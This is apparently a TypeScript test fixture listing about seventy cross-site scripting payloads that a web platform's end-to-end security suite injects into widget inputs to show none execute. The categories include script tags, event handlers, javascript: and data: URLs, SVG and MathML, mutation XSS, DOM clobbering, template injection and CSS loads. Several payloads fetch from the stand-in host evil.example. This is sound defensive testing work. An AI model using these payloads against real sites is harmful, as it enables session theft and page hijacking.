/**
 * The XSS corpus the platform injects on demand (`?ctbXss=` / cookie `ctb_xss`, xss-hook.ts) into
 * everything it feeds the widgets. Every payload that runs calls `ctbCanary(<id>)` (or asks for
 * https://evil.example/<id>): the e2e suite (e2e/specs/security/xss.spec.ts) proves none does.
 * `markup` payloads go into HTML fragments and text fields, `url` payloads into link, image and
 * navigation fields.
 */
export interface XssPayload {
  id: number;
  category:
    | 'script'
    | 'event-handler'
    | 'javascript-url'
    | 'data-url'
    | 'svg'
    | 'mathml'
    | 'mutation'
    | 'clobbering'
    | 'template'
    | 'attribute-break'
    | 'css';
  kind: 'markup' | 'url';
  payload: string;
}

export const XSS_CANARY = 'ctbCanary';
export const XSS_EXFIL_ORIGIN = 'https://evil.example';

const c = (id: number) => `${XSS_CANARY}(${id})`;
const base64Script = (id: number) => btoa(`<script>parent.${c(id)}</script>`);
const markup = (category: XssPayload['category'], payload: (id: number) => string) => ({
  category,
  kind: 'markup' as const,
  payload,
});
const url = (category: XssPayload['category'], payload: (id: number) => string) => ({
  category,
  kind: 'url' as const,
  payload,
});

const TEMPLATES = [
  markup('script', (id) => `<script>${c(id)}</script>`),
  markup('script', (id) => `<script src="${XSS_EXFIL_ORIGIN}/${id}.js"></script>`),
  markup('script', (id) => `<scr<script>ipt>${c(id)}</scr</script>ipt>`),
  markup('script', (id) => `\u2028\u2029<script>${c(id)}</script>`),
  markup('event-handler', (id) => `<img src=x onerror=${c(id)}>`),
  markup('event-handler', (id) => `<img src="x" oNeRrOr="${c(id)}">`),
  markup('event-handler', (id) => `<img src=x onerror="&#99;tbCanary(${id})">`),
  markup('event-handler', (id) => `<body onload=${c(id)}>`),
  markup('event-handler', (id) => `<details open ontoggle=${c(id)}>x</details>`),
  markup('event-handler', (id) => `<input autofocus onfocus=${c(id)}>`),
  markup('event-handler', (id) => `<video><source onerror=${c(id)}></video>`),
  markup('event-handler', (id) => `<audio src=x onerror=${c(id)}></audio>`),
  markup('event-handler', (id) => `<marquee onstart=${c(id)}>x</marquee>`),
  markup('event-handler', (id) => `<xss onpointerover=${c(id)} tabindex=0>hover</xss>`),
  markup('event-handler', (id) => `<button onclick=${c(id)} autofocus>x</button>`),
  markup('javascript-url', (id) => `<a href="javascript:${c(id)}">Link</a>`),
  markup('javascript-url', (id) => `<a href="  JaVaScRiPt:${c(id)}">Link</a>`),
  markup('javascript-url', (id) => `<a href="java&#x09;script:${c(id)}">Link</a>`),
  markup('javascript-url', (id) => `<iframe src="javascript:${c(id)}"></iframe>`),
  markup('javascript-url', (id) => `<form action="javascript:${c(id)}"><button>Go</button></form>`),
  markup('javascript-url', (id) => `<object data="javascript:${c(id)}"></object>`),
  markup('javascript-url', (id) => `<embed src="javascript:${c(id)}">`),
  markup(
    'javascript-url',
    (id) => `<meta http-equiv="refresh" content="0;url=javascript:${c(id)}">`,
  ),
  markup(
    'data-url',
    (id) => `<iframe src="data:text/html,<script>parent.${c(id)}</script>"></iframe>`,
  ),
  markup('data-url', (id) => `<a href="data:text/html;base64,${base64Script(id)}">Link</a>`),
  markup(
    'data-url',
    (id) => `<object data="data:text/html,<script>parent.${c(id)}</script>"></object>`,
  ),
  markup('svg', (id) => `<svg onload=${c(id)}>`),
  markup('svg', (id) => `<svg><script>${c(id)}</script></svg>`),
  markup('svg', (id) => `<svg><animate onbegin=${c(id)} attributeName=x dur=1s></animate></svg>`),
  markup(
    'svg',
    (id) => `<svg><a xlink:href="javascript:${c(id)}"><text x="20" y="20">x</text></a></svg>`,
  ),
  markup('svg', (id) => `<svg><set attributeName="onmouseover" to="${c(id)}"/></svg>`),
  markup(
    'svg',
    (id) =>
      `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.${c(id)}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  ),
  markup('mathml', (id) => `<math href="javascript:${c(id)}">x</math>`),
  markup(
    'mathml',
    (id) =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${c(id)}">x</maction></math>`,
  ),
  markup('mutation', (id) => `<svg></p><style><a id="</style><img src=1 onerror=${c(id)}>">`),
  markup('mutation', (id) => `<math><mtext><table><mglyph><style><img src=x onerror=${c(id)}>`),
  markup('mutation', (id) => `<noscript><p title="</noscript><img src=x onerror=${c(id)}>">`),
  markup(
    'mutation',
    (id) =>
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${c(id)} src>">`,
  ),
  markup('mutation', (id) => `<svg><style><img src=x onerror=${c(id)}></style></svg>`),
  markup('mutation', (id) => `<table><style><img src=x onerror=${c(id)}></style></table>`),
  markup('mutation', (id) => `<template><img src=x onerror=${c(id)}></template>`),
  markup('clobbering', () => `<img name="currentScript" src="${XSS_EXFIL_ORIGIN}/clobber.js">`),
  markup('clobbering', () => `<form id="page-config"><input name="textContent" value="{}"></form>`),
  markup(
    'clobbering',
    () =>
      `<a id="__ctbShellStarted__" href="#">x</a><a id="trustedTypes" name="createPolicy">x</a>`,
  ),
  markup('clobbering', () => `<form name="getElementById"></form><img name="querySelector">`),
  markup('template', (id) => `{{constructor.constructor('${c(id)}')()}}`),
  markup('template', (id) => `\${${c(id)}}`),
  markup('template', (id) => `<%= ${c(id)} %>#{${c(id)}}`),
  markup('template', (id) => `{{7*7}}<img src=x onerror=${c(id)}>`),
  markup('attribute-break', (id) => `"><img src=x onerror=${c(id)}>`),
  markup('attribute-break', (id) => `'><svg onload=${c(id)}>`),
  markup('attribute-break', (id) => `</textarea><script>${c(id)}</script>`),
  markup('attribute-break', (id) => `</script><script>${c(id)}</script>`),
  markup('attribute-break', (id) => `</title><img src=x onerror=${c(id)}>`),
  markup(
    'css',
    (id) => `<style>@import '${XSS_EXFIL_ORIGIN}/${id}.css';body{display:none}</style>`,
  ),
  markup('css', (id) => `<link rel="stylesheet" href="${XSS_EXFIL_ORIGIN}/${id}.css">`),
  markup(
    'css',
    (id) =>
      `<div style="position:fixed;inset:0;background:url(${XSS_EXFIL_ORIGIN}/${id}.png)">Overlay</div>`,
  ),
  markup('css', () => `<base href="${XSS_EXFIL_ORIGIN}/">`),
  markup(
    'css',
    (id) =>
      `<div data-widget="calculators/credit" data-config='{"title":"<img src=x onerror=${c(id)}>"}'></div>`,
  ),
  url('javascript-url', (id) => `javascript:${c(id)}`),
  url('javascript-url', (id) => `JaVaScRiPt:${c(id)}`),
  url('javascript-url', (id) => ` javascript:${c(id)}`),
  url('javascript-url', (id) => `java\tscript:${c(id)}`),
  url('javascript-url', (id) => `vbscript:${c(id)}`),
  url('data-url', (id) => `data:text/html,<script>${c(id)}</script>`),
  url('data-url', (id) => `data:text/html;base64,${base64Script(id)}`),
  url(
    'data-url',
    (id) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${c(id)}"/>`,
  ),
  url('attribute-break', (id) => `" onmouseover="${c(id)}" x="`),
  url('attribute-break', (id) => `//evil.example/${id}`),
  url('attribute-break', (id) => `/\\evil.example/${id}`),
  url('attribute-break', (id) => `${XSS_EXFIL_ORIGIN}/${id}`),
] as const;

/** The payloads, numbered from 1 (the number is what `ctbCanary` receives). */
export const XSS_PAYLOADS: readonly XssPayload[] = TEMPLATES.map((template, index) => ({
  id: index + 1,
  category: template.category,
  kind: template.kind,
  payload: template.payload(index + 1),
}));
